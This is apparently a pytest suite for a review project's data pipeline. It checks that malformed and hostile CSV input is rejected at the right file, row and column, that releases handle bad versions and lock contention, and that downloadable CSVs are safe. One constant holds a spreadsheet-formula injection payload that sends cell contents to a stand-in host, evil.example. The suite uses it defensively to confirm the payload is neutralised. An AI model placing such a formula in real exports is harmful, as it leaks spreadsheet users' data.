"""Issue 24's list of hostile and odd input, case by case, on a copy of the review's own data.

The issue lists what got through on a clone of main, each change made alone. Here each case
copies ``data/`` (today's tables, not a fixture), makes that one change, and checks the
outcome the issue asks for: validation reports it as an error at its file, row and column
(and the message says so in the ``file:row [column]`` form), and loading the data, as every
page of the build does, refuses them with :class:`review.data.DataError` instead of failing
later inside a page. The release cases run ``python -m review release`` on such a copy;
the download case builds the book (slow) and opens every CSV it offers with :mod:`csv`.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from review import data, release
from review.book import downloads
from review.data import guards, validate, versions

ROOT = Path(__file__).resolve().parents[1]
REAL = ROOT / "data"
OUT, STU = "outcomes.csv", "studies.csv"


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _write(path: Path, table: list[list[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n").writerows(table)


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    """Today's tables (no releases), validated once: every error below is the change's."""
    d = tmp_path_factory.mktemp("real") / "data"
    d.mkdir()
    for path in REAL.glob("*.csv"):
        shutil.copy2(path, d / path.name)
    # a cell written on two lines would move the editor lines computed below
    for path in d.glob("*.csv"):
        assert len(_rows(path)) == path.read_text(encoding="utf-8").count("\n"), path.name
    report = validate.run(d)
    assert report.ok, str(report)
    return d


@pytest.fixture
def copy(pristine, tmp_path) -> Path:
    d = tmp_path / "data"
    shutil.copytree(pristine, d)
    return d


# --- the changes: each returns (file, editor line, column) where the error must be ----------


def _set(d: Path, file: str, column: str, value: str, line: int = 2):
    table = _rows(d / file)
    table[line - 1][table[0].index(column)] = value
    _write(d / file, table)
    return file, line, column


def _header(written: str):
    def change(d: Path):
        table = _rows(d / STU)
        assert table[0][0] == "study_id"
        table[0][0] = written
        _write(d / STU, table)
        return STU, 1, "study_id"

    return change


def _twin_key(how: Callable[[str], str]):
    """A copy of the first study whose key is written another way, appended at the end."""

    def change(d: Path):
        table = _rows(d / STU)
        twin = list(table[1])
        twin[0] = how(twin[0])
        assert twin[0] != table[1][0]
        table.append(twin)
        _write(d / STU, table)
        return STU, len(table), "study_id"

    return change


def _doi(value: Callable[[str], str]):
    def change(d: Path):
        table = _rows(d / STU)
        col = table[0].index("doi")
        line = next(i for i, r in enumerate(table[1:], start=2) if r[col])
        return _set(d, STU, "doi", value(table[line - 1][col]), line)

    return change


def _variants(n: int):
    def change(d: Path):
        table = _rows(d / OUT)
        head, first = table[0], table[1]
        for i in range(n):
            extra = list(first)
            extra[head.index("variant")] = f"v{i}"
            extra[head.index("primary")] = "false"
            table.append(extra)
        _write(d / OUT, table)
        same = [
            i for i, r in enumerate(table[1:], start=2) if r[0] == first[0] and r[1] == first[1]
        ]
        return OUT, same[guards.MAX_VARIANTS], "variant"  # the first row past the limit

    return change


def _fullwidth(key: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in key)


CASES = {
    # name: (change, words of the rule reported)
    "header with a trailing space": (_header("study_id "), "column name written exactly"),
    "header with a no-break space": (_header("study_id\u00a0"), "column name written exactly"),
    "key in another case": (_twin_key(str.upper), "keys differ by more than case"),
    "key with a no-break space": (
        _twin_key(lambda k: k + "\u00a0"),
        "keys differ by more than case",
    ),
    "key with surrounding spaces": (
        _twin_key(lambda k: f" {k}\u2003"),
        "keys differ by more than case",
    ),
    "key in full-width letters (NFKC)": (
        _twin_key(_fullwidth),
        "keys differ by more than case",
    ),
    "key in decomposed Unicode (NFD)": (
        _twin_key(lambda k: k[:1] + "\u0301" + k[1:]),
        "key of ASCII letters",
    ),
    "date 2300-01-01": (
        lambda d: _set(d, OUT, "date_public", "2300-01-01"),
        "date not after today",
    ),
    "date 0001-01-01": (
        lambda d: _set(d, OUT, "date_public", "0001-01-01"),
        "date not before the first report of inotuzumab ozogamicin",
    ),
    "study date 2300-01-01": (
        lambda d: _set(d, STU, "date_public", "2300-01-01"),
        "date not after today",
    ),
    "integer beyond 64 bits": (
        lambda d: _set(d, OUT, "total", str(2**64 + 1)),
        "integer within 64 bits",
    ),
    "negative integer beyond 64 bits": (
        lambda d: _set(d, OUT, "events", str(-(2**63) - 1)),
        "integer within 64 bits",
    ),
    "total 1e30": (lambda d: _set(d, OUT, "total", "1e30"), "integer expected"),
    "percentage 1e30": (
        lambda d: _set(d, OUT, "percent_reported", "1e30"),
        "number expected",
    ),
    "DOI as a URL": (
        _doi(lambda doi: "https://doi.org/" + doi),
        "not as a web address",
    ),
    "DOI with a doi: prefix": (
        _doi(lambda doi: "doi:" + doi),
        "without the 'doi:' prefix",
    ),
    "5 MB note": (
        lambda d: _set(d, OUT, "note", "x" * 5_000_000, line=3),
        f"cell at most {guards.MAX_CELL_CHARS:,} characters",
    ),
    "5 MB note with quotes and line ends": (
        lambda d: _set(d, OUT, "note", 'say "x"\n' * 625_000, line=3),
        f"cell at most {guards.MAX_CELL_CHARS:,} characters",
    ),
    "2,000 variants of one outcome": (
        _variants(2000),
        f"at most {guards.MAX_VARIANTS} variants of one outcome",
    ),
}


# The header cases broke the build inside a page (KeyError: 'study_id'); a load validates
# with the same run as above, so it is repeated only for those and one key case.
LOADED = {"header with a trailing space", "header with a no-break space", "key in another case"}


@pytest.mark.parametrize("case", list(CASES))
def test_each_case_is_refused_at_its_file_row_and_column(copy, case):
    change, rule = CASES[case]
    file, line, column = change(copy)
    report = validate.run(copy)
    hits = [
        p
        for p in report.errors
        if (p.file, p.line, p.column) == (file, line, column) and rule in p.rule
    ]
    assert hits, f"{case}: no error {file}:{line} [{column}] {rule!r} in\n{str(report)[:3000]}"
    text = str(hits[0])
    assert text.startswith(f"ERROR {file}:{line} [{column}]:"), text[:300]
    assert len(text) < 1000, "the message shows the value shortened"
    assert "unbalanced" not in str(report)
    for p in report.errors:  # every message, not only this one, names its place
        assert p.file and (p.line is not None or p.file.endswith(".yaml")), str(p)[:300]
    if case in LOADED:
        # what the build's pages do: the load refuses the data with the same report
        with pytest.raises(data.DataError) as info:
            data.load(copy)
        assert f"{file}:{line} [{column}]" in str(info.value)


# --- releases: python -m review release on a copy of today's data -----------------------------


def _release(d: Path, version: str, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "review", "release", version, "--data", str(d), *extra],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT / "lib")},
        timeout=900,
        check=False,
    )


def test_release_with_a_300_character_version(copy):
    proc = _release(copy, "1" * 300)
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr
    assert "RELEASE FAILED: bad version string" in proc.stderr
    assert "300 characters; the limit is 32" in proc.stderr
    assert not (copy / versions.RELEASES).exists()


def _read_or_empty(path: Path) -> str:
    try:
        return path.read_text(encoding="utf-8")
    except OSError:
        return ""


@pytest.mark.slow
def test_two_releases_at_once_and_versions_in_order(copy):
    """Two ``release`` commands started together on one data folder: one writes 1.9, the
    other waits for it and then writes 1.10 (or, given no time to wait, says who holds
    the lock); 1.10 then comes after 1.9, and the status the pages show says 1.10."""
    cmd = [sys.executable, "-m", "review", "release"]
    env = {**os.environ, "PYTHONPATH": str(ROOT / "lib")}

    def start(version, wait):
        return subprocess.Popen(
            [*cmd, version, "--data", str(copy), "--wait", str(wait)],
            cwd=ROOT,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    # 1.10 starts once 1.9 holds the lock (or has finished): started at the same instant,
    # either could take the lock first, and 1.9 after 1.10 is rightly refused
    first = start("1.9", 600)
    lock = copy / versions.RELEASES / release.LOCK
    deadline = time.monotonic() + 600
    while first.poll() is None and "1.9" not in _read_or_empty(lock):
        assert time.monotonic() < deadline, "release 1.9 never took the lock"
        time.sleep(0.05)
    second = start("1.10", 600)
    outs = [p.communicate(timeout=1200) for p in (first, second)]
    assert [p.returncode for p in (first, second)] == [0, 0], outs
    assert all("Traceback" not in err for _, err in outs)
    made = [m["version"] for m in versions.list_releases(copy)]
    assert made == ["1.9", "1.10"]
    assert versions.status(copy)["last_release"] == "1.10"
    # a third release given no time to wait while the lock is held names the holder
    with release.release_lock(copy / versions.RELEASES, "1.11", wait=0):
        third = _release(copy, "1.12", "--wait", "0")
    assert third.returncode == 1 and "Traceback" not in third.stderr
    assert "another release is running (release 1.11 by process" in third.stderr
    assert [m["version"] for m in versions.list_releases(copy)] == ["1.9", "1.10"]


# --- downloads: every CSV the built site offers ---------------------------------------------

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.slow
def test_every_downloadable_csv_of_the_built_site_is_safe(tmp_path):
    """The fixture data with a formula at the start of every free-text cell a page can
    show (authors, citations, regimens, definitions, notes, quotes): after a build, no cell
    of any CSV under the site opens as a formula, and the payload did reach the downloads
    (neutralised), so the check has something to find."""
    from _site import FIXTURE, run_build

    d = tmp_path / "data"
    shutil.copytree(FIXTURE, d)
    columns = {
        STU: ("first_author", "citation", "regimen", "quote", "note"),
        OUT: ("definition", "quote", "note", "report"),
    }
    for file, cols in columns.items():
        table = _rows(d / file)
        for r in table[1:]:
            for c in cols:
                r[table[0].index(c)] = PAYLOAD + r[table[0].index(c)]
        _write(d / file, table)
    assert validate.run(d).ok
    proc = run_build(d, tmp_path / "_build")
    assert proc.returncode == 0, (proc.stdout + proc.stderr)[-3000:]
    site = tmp_path / "_build" / "html"
    files = sorted(site.resolve().rglob("*.csv"))
    assert files
    reached, bad = 0, []
    for path in files:
        with path.open(newline="", encoding="utf-8") as fh:
            for n, row in enumerate(csv.reader(fh), start=1):
                for cell in row:
                    reached += cell.startswith("'" + PAYLOAD)
                    if (
                        cell.startswith(downloads.FORMULA_STARTS)
                        and downloads.neutralise(cell) != cell
                    ):
                        bad.append(f"{path.relative_to(site.resolve())}:{n}: {cell[:60]}")
    assert not bad, "\n".join(bad[:20])
    assert reached, "no download carries the payload: the check found nothing to check"
